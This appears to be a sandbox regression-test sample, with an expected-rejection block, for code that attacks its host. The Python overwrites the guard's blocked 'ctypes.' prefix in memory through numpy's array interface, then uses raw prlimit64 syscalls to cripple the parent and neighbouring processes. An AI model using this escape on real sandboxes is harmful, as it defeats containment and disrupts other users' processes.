"""Takes over its host, then lowers the hard limits (address space 8 MB, CPU 1 s,
file size 0) of the processes next to it in pid order and of its parent with raw
prlimit64: in sandbox v2 this reached the opponent's host and every process of
the host's uid (issue 27)."""
EXPECT = {
    "tries": "after a takeover: prlimit64 on the opponent's host and the parent (lower their hard limits)",
    "static": "invalid",
    "runtime": "forbidden",
    "message": r"^forbidden: the sandbox refused system call prlimit64",
}
import numpy as np
import typing


def _raw(address, size):
    """numpy's array interface: `size` bytes of this process at `address`."""
    holder = type("Raw", (), {"__array_interface__": {"data": (address, False), "shape": (size,),
                                                      "typestr": "|u1", "version": 3}})()
    return np.asarray(holder)


def take_over():
    """The guard's "ctypes." prefix rewritten in place: the host's own ctypes
    then makes any system call (a compact str's data follows a 48-byte header)."""
    modules = typing.sys.modules  # <- rejected
    for text in modules["host_guard"]._Guard.ALWAYS_BLOCKED_PREFIXES:
        if text == "ctypes.":
            _raw(id(text) + 48, 7)[0] = 88
    ctypes = modules["ctypes"]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return ctypes, libc


class Policy:
    def __init__(self, player, game):
        self.ctypes, self.libc = take_over()  # <- rejected

    def act(self, obs):
        libc, ctypes = self.libc, self.ctypes  # <- rejected
        
        
        class Limit(ctypes.Structure):
            _fields_ = [("soft", ctypes.c_uint64), ("hard", ctypes.c_uint64)]
        
        
        me = libc.getpid()
        for pid in [libc.getppid()] + [p for p in range(max(2, me - 64), me + 64) if p != me]:
            for resource, value in ((9, 8 << 20), (0, 1), (1, 0)):  # RLIMIT_AS, RLIMIT_CPU, RLIMIT_FSIZE
                libc.syscall(302, pid, resource, ctypes.byref(Limit(value, value)), None)
        return obs["legal_actions"][0]
